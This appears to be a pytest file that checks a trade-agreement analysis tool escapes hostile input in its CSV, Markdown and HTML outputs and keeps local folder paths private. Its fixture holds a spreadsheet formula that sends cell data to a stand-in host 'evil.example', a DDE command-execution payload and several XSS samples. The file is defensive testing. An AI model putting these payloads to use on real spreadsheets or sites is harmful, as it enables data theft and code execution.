"""What TradeLens publishes is safe to publish (issue 15): spreadsheet cells cannot run
formulas, Markdown and HTML show hostile text as text, and no page or table carries the
folders of the analyst's machine unless `--full-paths` asks for them."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from click.testing import Result

from tests.conftest import run_cli

TITLE = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for the full text")'
PARTIES = "@SUM(1+1)*cmd|' /C calc'!A0, -2+3, +Aurelia"
HOSTILE = f"""Id: hostile_agreement
Title: {TITLE}
Parties: {PARTIES}
Date signed: 2020-05-01

CHAPTER 14
ELECTRONIC COMMERCE

Article 14.1: Location of Computing Facilities <script>alert('site')</script>
1. No Party shall require a covered person to use or locate computing facilities in that
Party's territory as a condition for conducting business in that territory.
<script>alert('clause')</script> <img src=x onerror=alert(2)> [click](javascript:alert(3))

Article 14.2: Cross-Border Transfer of Information by Electronic Means
1. Each Party shall allow the cross-border transfer of information by electronic means,
including personal information, when this activity is for the conduct of business.
"""


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> tuple[Result, Path, Path, Path]:
    base = tmp_path_factory.mktemp("publish")
    deep = base / "home" / "analyst" / "Clients" / "Ministry of Trade" / "confidential"
    deep.mkdir(parents=True)
    source = deep / "hostile agreement.txt"
    source.write_text(HOSTILE, encoding="utf-8")
    out, store = base / "out", base / "store"
    result = run_cli("analyse", str(source), "--out", str(out), "--store", str(store),
                     "--format", "json,md,csv,html", "--quiet")
    return result, out, store, deep


def test_no_output_carries_the_folder_of_the_input(published) -> None:
    result, out, _store, deep = published
    assert result.exit_code == 0, result.output
    files = [p for p in out.rglob("*") if p.is_file()]
    assert {p.suffix for p in files} >= {".json", ".md", ".csv", ".html"}
    for path in files:
        body = path.read_text(encoding="utf-8", errors="replace")
        assert str(deep) not in body, path
        assert "/home/analyst/" not in body and "Ministry of Trade" not in body, path
    report = json.loads((out / "hostile_agreement.json").read_text())
    assert report["agreement"]["source"] == "hostile agreement.txt"


def test_full_paths_keeps_the_folder_when_asked(published, tmp_path: Path) -> None:
    _result, _out, store, deep = published
    out = tmp_path / "full"
    again = run_cli("analyse", str(deep / "hostile agreement.txt"), "--out", str(out),
                    "--store", str(store), "--format", "json", "--quiet", "--full-paths")
    assert again.exit_code == 0, again.output
    report = json.loads((out / "hostile_agreement.json").read_text())
    assert report["agreement"]["source"] == str(deep / "hostile agreement.txt")


def test_csv_cells_cannot_start_a_formula(published) -> None:
    result, out, _store, _deep = published
    assert result.exit_code == 0, result.output
    with (out / "agreements.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 1
    row = rows[0]
    assert row["title"] == "'" + TITLE
    assert row["parties"].startswith("'@SUM")
    for table in ("agreements.csv", "findings.csv"):
        with (out / table).open(newline="", encoding="utf-8") as handle:
            for cells in csv.DictReader(handle):
                for value in cells.values():
                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    float(row["score"])  # numbers stay numbers
    assert not row["score"].startswith("'")


def test_markdown_and_html_show_hostile_text_as_text(published) -> None:
    result, out, _store, _deep = published
    assert result.exit_code == 0, result.output
    page = (out / "hostile_agreement.md").read_text()
    index = (out / "index.md").read_text()
    for body in (page, index):
        assert "<script" not in body and "<img" not in body
    assert "&lt;script&gt;" in page
    assert "](javascript:" not in page  # the bracket that would make it a link is escaped
    assert page.splitlines()[0].startswith("# =HYPERLINK\\(")
    site = (out / "hostile_agreement.html").read_text()
    assert "<script>alert" not in site and "<img src=x" not in site
    assert "&lt;script&gt;alert" in site


@pytest.mark.parametrize("value, expected", [
    ("=1+2", "'=1+2"), ("+44 20", "'+44 20"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Article 1", "Article 1"), ("", ""),
    (-12.5, -12.5), (0, 0), (None, None),
])
def test_neutralise_follows_the_owasp_rule(value, expected) -> None:
    from tradelens.report.csv_report import neutralise

    assert neutralise(value) == expected


def test_markdown_text_escapes_markup_and_html() -> None:
    from tradelens.report.markdown import text as md_text

    rendered = md_text("**bold** <b>x</b> `code` # not a heading\nnext | cell")
    assert "<b>" not in rendered and "\n" not in rendered
    assert rendered.startswith("\\*\\*bold\\*\\*") and "\\`code\\`" in rendered
    assert "\\|" in rendered and "\\#" in rendered
